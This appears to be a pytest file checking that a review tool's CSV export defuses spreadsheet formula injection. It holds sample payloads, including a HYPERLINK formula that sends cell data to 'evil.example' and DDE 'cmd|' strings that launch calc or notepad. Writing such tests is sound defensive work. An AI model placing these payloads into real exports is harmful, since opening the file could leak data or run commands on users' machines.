"""CSV exports cannot be turned into formulas: text cells that a spreadsheet would run (OWASP's
CSV injection: leading =, +, -, @, tab, CR) are neutralised; numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from reviewer.domain import Channel, Conversation, SpeakerRole, Turn
from reviewer.reports.csv_export import neutralised
from reviewer.rubrics import load_catalog
from reviewer.storage import Library
from conftest import run_cli as run

HOSTILE = {
    "employee": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "reviewer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "no_must": "+cmd|' /C notepad'!A0",
    "thanks": "-2+3+cmd|' /C calc'!A0",
    "listens": "\t=1+1",
    "asks_questions": "\r=1+1",
    "greets": "-5",  # a plain number someone typed: stays as it is
}


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("Said 'you must' = bad", "Said 'you must' = bad"),
        ("", ""),
        (42, 42),
    ],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected


def test_export_scores_neutralises_hostile_cells_and_keeps_numbers(capsys, tmp_path):
    root = tmp_path / "library"
    with Library.open(root) as lib:
        rubric = load_catalog().get("call")
        cid = lib.conversations.add(
            Conversation(
                Channel.CALL, "call.wav", source_sha256="c", employee=HOSTILE["employee"],
                turns=[Turn("Hello", SpeakerRole.AGENT, start_ms=0, end_ms=1000)],
            )
        )
        review = lib.reviews.create(cid, rubric, HOSTILE["reviewer"])
        answers = [(c.id, c.scale.top, HOSTILE.get(c.id, ""), []) for c in rubric.criteria()]
        lib.reviews.set_answers(review.id, answers)
        lib.reviews.submit(review.id)
    target = tmp_path / "scores.csv"
    code, out, err = run(capsys, "--library", root, "export", "scores", "-o", target)
    assert code == 0, err
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["criterion_id"]: row for row in csv.DictReader(handle)}
    some = next(iter(rows.values()))
    assert some["employee"] == "'" + HOSTILE["employee"]
    assert some["reviewer"] == "'" + HOSTILE["reviewer"]
    for criterion in ("no_must", "thanks", "listens", "asks_questions"):
        assert rows[criterion]["comment"] == "'" + HOSTILE[criterion]
    assert rows["greets"]["comment"] == "-5"
    # No cell of the file starts like a formula any more, and the numbers are still numbers.
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-5", value
        float(row["review_score"]), int(row["review_id"]), float(row["max_points"])
    assert rows["greets"]["points"] == rows["greets"]["max_points"]
